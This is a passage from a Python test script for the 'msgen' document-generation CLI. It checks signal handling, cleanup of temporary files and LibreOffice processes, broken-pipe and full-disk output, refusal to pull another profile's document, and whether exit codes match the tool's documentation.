    if command == "next-year":
        arguments = ["next-year", path, "-o", profiles_folder / "next.yaml"]
    else:
        _, statement = built(tmp / "built")
        arguments = ["pull", statement, "--profile", path, "-o", profiles_folder / "pulled.yaml"]
    process = held_msgen("msgen.profile.edit.validate", "", tmp / "ready", *arguments)
    os.kill(wait_for(tmp / "ready", process), how)
    stdout, stderr = process.communicate()
    refused(subprocess.CompletedProcess(process.args, process.returncode, stdout, stderr), 130, "interrupted")
    assert names(profiles_folder) == ["profile.yaml"]
    out = folder(tmp / "out")
    succeeded(msgen("build", profiles_folder, "-o", out))
    assert names(out) == BASE_DOCUMENTS


for command, how, promise in [
        ("next-year", signal.SIGTERM, ("SIGTERM during next-year: exit 130, no scratch profile a later build "
                                       "FOLDER reads")),
        ("next-year", signal.SIGHUP, "SIGHUP (terminal closed) during next-year: exit 130, nothing left"),
        ("pull", signal.SIGTERM, "SIGTERM during pull: exit 130, nothing left"),
        ("pull", signal.SIGINT, "Ctrl-C during pull: exit 130, nothing left")]:
    case(10, promise)(partial(_interrupted, command=command, how=how))


@case(10, "SIGTERM as build writes: exit 130 and no document, whole or partial")
def term_build(tmp: Path) -> None:
    path = profile(tmp)
    out = folder(tmp / "out")
    process = held_msgen("msgen.writer.write_outputs", "", tmp / "ready", "build", path, "-o", out)
    os.kill(wait_for(tmp / "ready", process), signal.SIGTERM)
    stdout, stderr = process.communicate()
    refused(subprocess.CompletedProcess(process.args, process.returncode, stdout, stderr), 130, "interrupted")
    assert names(out) == []


# msgen's CLI with Ctrl-C arriving the instant a temporary file has been created: the
# narrowest window an interruption can hit between creating a file and noting it.
INTERRUPTED_AT_CREATION = """\
import os, signal, sys, tempfile
create = tempfile.mkstemp
def interrupted(*args, **kwargs):
    made = create(*args, **kwargs)
    if str(kwargs.get("dir")) == sys.argv[sys.argv.index("-o") + 1]:  # in the output folder
        os.kill(os.getpid(), signal.SIGINT)
    return made
tempfile.mkstemp = interrupted
from msgen.cli import main
sys.argv[0] = "msgen"
main()
"""


@case(10, "Ctrl-C the instant a temporary output file is created: exit 130 and no temporary file left")
def interrupt_at_creation(tmp: Path) -> None:
    path = profile(tmp)
    out = folder(tmp / "out")
    result = subprocess.run([sys.executable, "-c", INTERRUPTED_AT_CREATION, "build", str(path), "-o", str(out)],
                            capture_output=True, text=True, env=USER_ENV, check=False)
    refused(result, 130, "interrupted")
    assert names(out) == [], f"left behind: {names(out)}"


def _children(pid: int) -> list[int]:
    """The processes whose parent is `pid` (from /proc)."""
    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            if int(stat.read_text().rpartition(")")[2].split()[1]) == pid:
                found.append(int(stat.parent.name))
        except (OSError, ValueError, IndexError):
            continue
    return found


@case(10, "SIGTERM while LibreOffice makes the PDF: exit 130, LibreOffice and its profile gone, no PDF")
def term_during_pdf(tmp: Path) -> None:
    path = profile(tmp)
    out = folder(tmp / "out")
    build = subprocess.Popen(msgen_command(["build", str(path), "-o", str(out), "--format", "docx,pdf"]),
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=USER_ENV)
    office = []
    while not office and build.poll() is None:
        office = [child for child in _children(build.pid)
                  if b"UserInstallation" in Path(f"/proc/{child}/cmdline").read_bytes()]
        time.sleep(0.05)
    assert office, "LibreOffice never started"
    installation = re.search(rb"UserInstallation=file://([^\x00]+)", Path(f"/proc/{office[0]}/cmdline").read_bytes())
    build.send_signal(signal.SIGTERM)
    stdout, stderr = build.communicate()
    refused(subprocess.CompletedProcess(build.args, build.returncode, stdout, stderr), 130, "interrupted")
    time.sleep(1)  # LibreOffice's own children end as it does
    assert not Path(f"/proc/{office[0]}").exists(), "LibreOffice still runs"
    assert not Path(os.fsdecode(installation.group(1))).exists(), "LibreOffice's profile folder was left"
    assert not list(out.glob("*.pdf")) and not list(out.glob(".*"))


def _printing_to(tmp: Path, stdout: int | None, *arguments: object, closed: int | None = None
                 ) -> subprocess.CompletedProcess:
    try:
        return msgen(*arguments, stdout=stdout, preexec_fn=(lambda: os.close(closed)) if closed is not None else None)
    finally:
        if stdout is not None:
            os.close(stdout)


@case(10, "a reader that left (msgen schema | head -0): exit 0, no traceback")
def closed_pipe(tmp: Path) -> None:
    reader, writer = os.pipe()
    os.close(reader)
    result = _printing_to(tmp, writer, "schema")
    assert result.returncode == 0 and "Traceback" not in result.stderr, (result.returncode, _last(result.stderr))


@case(10, "stdout on a full disk (msgen schema > /dev/full): exit 3 and one line")
def full_stdout(tmp: Path) -> None:
    result = _printing_to(tmp, os.open("/dev/full", os.O_WRONLY), "schema")
    refused(subprocess.CompletedProcess(result.args, result.returncode, "", result.stderr), 3,
            "cannot print the output: No space left on device")


@case(10, "a closed stdout (msgen validate x >&-): exit 0, no traceback")
def closed_stdout(tmp: Path) -> None:
    result = _printing_to(tmp, os.open(os.devnull, os.O_WRONLY), "validate", BASE_PROFILE, closed=1)
    assert result.returncode == 0 and "Traceback" not in result.stderr, (result.returncode, _last(result.stderr))


@case(10, "a closed stderr with an invalid profile (2>&-): still exit 1, nothing written")
def closed_stderr(tmp: Path) -> None:
    path = profile(tmp, {f"slug: {BASE_SLUG}": "slug: Not A Slug"})
    out = folder(tmp / "out")
    devnull = os.open(os.devnull, os.O_WRONLY)
    try:
        result = msgen("build", path, "-o", out, stdout=devnull, stderr=None, preexec_fn=lambda: os.close(2))
    finally:
        os.close(devnull)
    assert result.returncode == 1, result.returncode
    assert names(out) == []


# -- class 11: pull refuses another profile's document ------------------------------------

def _without_record(document: Path, target: Path) -> Path:
    """`document` as Word's Document Inspector leaves it: the custom properties (msgen's
    build record among them) emptied."""
    with zipfile.ZipFile(document) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    parts["docProps/custom.xml"] = re.sub(rb"<property .*</property>", b"", parts["docProps/custom.xml"],
                                          flags=re.DOTALL)
    with zipfile.ZipFile(target, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return target


def _other_body(tmp: Path, keep_record: bool, said: str) -> None:
    mine = profile(folder(tmp / "mine"))
    before = mine.read_bytes()
    _, theirs = built(tmp / "theirs", {"Exampleshire Police": "Otherfordshire Constabulary",
                                       f"slug: {BASE_SLUG}": "slug: otherfordshire"})
    if not keep_record:
        theirs = _without_record(theirs, tmp / "inspected.docx")
    refused(msgen("pull", theirs, "--profile", mine, "-o", tmp / "pulled.yaml"), 1, said)
    assert mine.read_bytes() == before and not (tmp / "pulled.yaml").exists()


@case(11, "pull of another body's statement is refused and nothing written")
def other_body(tmp: Path) -> None:
    _other_body(tmp, keep_record=True, said="the document was built from another version of profile.yaml")


@case(11, "pull of another body's statement whose build record was removed is refused too")
def other_body_without_record(tmp: Path) -> None:
    _other_body(tmp, keep_record=False, said="so it looks built from another profile; nothing was written")


@case(11, "pull of the profile's own edited statement without its build record still works")
def own_body_without_record(tmp: Path) -> None:
    path, statement = built(tmp / "built")
    reviewed = _without_record(edited(statement, {"approval.body": ["Chief Officers' Group"]}),
                               tmp / "inspected.docx")
    succeeded(msgen("pull", reviewed, "--profile", path, "-o", tmp / "pulled.yaml"))
    assert load_profile(tmp / "pulled.yaml").data["approval"]["body"] == "Chief Officers' Group"


# -- class 12: exit codes and messages match docs/errors.md --------------------------------

@case(12, "a wrong option exits 2 with one line")
def wrong_option(tmp: Path) -> None:
    result = msgen("build", BASE_PROFILE, "--no-such-option")
    assert result.returncode == 2 and "Traceback" not in result.stderr and "--no-such-option" in result.stderr


@case(12, "a profile that is not there exits 2 with 'no such file'")
def missing_profile(tmp: Path) -> None:
    refused(msgen("validate", tmp / "absent.yaml"), 2, "no such file")


# Messages docs/errors.md quotes in its text rather than in a table, with the exit code it gives them.
IN_PROSE = [Row("Interrupted", ("interrupted; outputs already written are intact, nothing partial was left",), 130),
            Row("Interrupted", ("cannot print the output: {No space left on device}",), 3)]


@case(12, "every refusal this run saw is a message docs/errors.md lists, with its exit code")
def every_refusal_documented(tmp: Path) -> None:
    assert EARLIER, "no refusal was seen to check"
    written = ERRORS_DOC.read_text(encoding="utf-8")
    assert all(row.key in written for row in IN_PROSE), "docs/errors.md no longer says what IN_PROSE quotes"
    undocumented = []
    for code, output in EARLIER:
        for line in output.splitlines():
            if not line.startswith("msgen: error: ") or "problem(s) in the profile" in line:
                continue
            if code not in {row.exit_code for row in ROWS + IN_PROSE if row.said_in(line)}:
                undocumented.append(f"exit {code}: {line[:160]}")
    assert not undocumented, "; ".join(undocumented[:3])


# -- running the cases --------------------------------------------------------------------

def _in_own_group(check: Callable[[Path], None], tmp: Path, report) -> None:
    """Run one case in this (forked) process, the leader of its own process group."""
    os.setpgid(0, 0)
    # Started in the background, this script inherits SIGINT ignored; msgen runs started
    # from a terminal do not, so the case's own msgen runs get Python's usual handler.
    signal.signal(signal.SIGINT, signal.default_int_handler)
    SEEN.clear()
    try:
        check(tmp)
        verdict = None
    except AssertionError as exc:
        verdict = str(exc).splitlines()[0] if str(exc) else "an assertion failed"
    except Exception as exc:  # the case itself could not run: a broken case too, said plainly
        verdict = f"{type(exc).__name__}: {exc}"
    report.send((verdict, SEEN))


def run_case(item: Case, tmp: Path, seconds: float, seen: list) -> str | None:
    """The case's verdict (None: held); it and every process it started are killed after `seconds`."""
    reader, writer = multiprocessing.Pipe(duplex=False)
    child = multiprocessing.get_context("fork").Process(target=_in_own_group, args=(item.check, tmp, writer))
    child.start()
    writer.close()
    try:
        os.setpgid(child.pid, child.pid)
    except OSError:
        pass  # it already made its own group
    verdict, found = (reader.recv() if reader.poll(seconds) else
                      (f"hung: killed after {seconds:.0f} s", []))
    try:
        os.killpg(child.pid, signal.SIGKILL)  # a case's held or stray processes go with it
    except ProcessLookupError:
        pass
    child.join()
    seen.extend(found)
    return verdict


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", default="", help="run only the cases whose promise contains this text")
    parser.add_argument("--seconds", type=float, default=240, help="kill a case after this long (default 240)")
    parser.add_argument("--list", action="store_true", help="list the cases and stop")
    args = parser.parse_args()
    chosen = [item for item in CASES if args.only in item.promise or item.number == 12]
    if args.list:
        shutil.rmtree(WORKSPACE)
        for item in chosen:
            print(f"[{item.number}] {item.promise}")
        return 0
    tally = {number: [0, 0] for number in CLASSES}
    seen: list = []
    try:
        for index, item in enumerate(chosen):
            tmp = folder(WORKSPACE / f"case-{index:02d}")
            EARLIER[:] = seen  # the forked case sees every refusal the others checked
            started = time.monotonic()
            verdict = run_case(item, tmp, args.seconds, seen)
            tally[item.number][0] += 1
            tally[item.number][1] += verdict is None
            print(f"{'held  ' if verdict is None else 'BROKEN'} [{item.number}] {item.promise} "
                  f"({time.monotonic() - started:.0f} s)" + (f"\n         {verdict}" if verdict else ""), flush=True)
    finally:
        shutil.rmtree(WORKSPACE, ignore_errors=True)
    print()
    for number, (tried, held) in tally.items():
        if tried:
            print(f"class {number:2d} ({CLASSES[number]}): {tried} tried, {held} held")
    tried = sum(counts[0] for counts in tally.values())
    held = sum(counts[1] for counts in tally.values())
    print(f"{tried} cases: {held} held, {tried - held} broken")
    return 1 if held < tried else 0


if __name__ == "__main__":
    sys.exit(main())
